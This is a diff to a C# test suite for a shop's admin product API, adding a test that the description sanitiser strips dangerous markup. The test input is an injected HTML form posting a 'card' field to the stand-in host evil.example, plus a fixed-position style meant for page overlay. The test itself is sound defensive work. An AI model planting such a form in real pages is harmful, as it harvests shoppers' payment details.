@@ -38,6 +38,15 @@ public class StaffCatalogTests(ShopApi shop) : IClassFixture<ShopApi>
     }
 
     [Fact]
+    public async Task A_description_asks_nobody_for_anything_and_keeps_its_place()
+    {
+        var (id, etag) = await CreateAsync();
+        const string written = """<p style="color: rgba(1, 2, 3, 1); position: fixed">Sea</p><form action="https://evil.example/"><input name="card"></form>""";
+        await shop.Staff.EditAsync(HttpMethod.Put, $"/api/v1/admin/products/{id}", etag, new { title = "Made", slug = $"made-{_id}", descriptionHtml = written });
+        Assert.Equal("""<p style="color: rgba(1, 2, 3, 1)">Sea</p>""", (await ShopApi.OkAsync(shop.Staff.GetAsync($"/api/v1/admin/products/{id}"))).GetProperty("descriptionHtml").GetString());
+    }
+
+    [Fact]
     public async Task Two_people_cannot_overwrite_each_other_and_a_guest_cannot_edit_at_all()
     {
         var (id, etag) = await CreateAsync();
